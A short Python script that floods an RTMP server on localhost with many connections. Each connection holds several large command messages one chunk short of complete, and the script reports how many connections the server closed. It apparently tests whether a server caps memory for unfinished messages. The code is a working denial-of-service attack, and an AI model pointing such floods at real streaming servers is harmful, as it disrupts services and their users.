#!/usr/bin/env python3
"""Partial-message flood against an RTMP node: N connections from one address, each holding M large commands short
of their last chunk, held open for HOLD seconds. Prints how many the node closed."""
import socket, struct, sys, time, os

def handshake(s):
    s.sendall(b"\x03" + b"\x00" * 8 + os.urandom(1528))
    got = b""
    while len(got) < 3073:
        chunk = s.recv(65536)
        if not chunk:
            raise IOError("closed in handshake")
        got += chunk
    s.sendall(got[1:1537])

def fmt0(csid, length, type_id):
    return bytes([csid]) + b"\x00\x00\x00" + length.to_bytes(3, "big") + bytes([type_id]) + b"\x00\x00\x00\x00"

def partials(messages, size, chunk=65536):
    out = bytearray()
    out += fmt0(2, 4, 1) + struct.pack(">I", chunk)
    body = b"\x00" * chunk
    for m in range(messages):
        cs = 4 + m
        out += fmt0(cs, size, 20)
        at = 0
        while at + chunk < size:
            if at > 0:
                out += bytes([0xC0 | cs])
            out += body
            at += chunk
    return bytes(out)

port, conns, messages, size, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
payload = partials(messages, size)
socks = []
for i in range(conns):
    s = socket.create_connection(("127.0.0.1", port))
    handshake(s)
    socks.append(s)
gone = set()
for i, s in enumerate(socks):
    try:
        s.sendall(payload)
    except OSError:
        gone.add(i)
time.sleep(hold)
for i, s in enumerate(socks):
    s.setblocking(False)
    try:
        if s.recv(1) == b"":
            gone.add(i)
    except BlockingIOError:
        pass
    except OSError:
        gone.add(i)
closed = len(gone)
print(f"{conns} connections sent {messages} x {size} bytes each; {closed} closed by the node", flush=True)
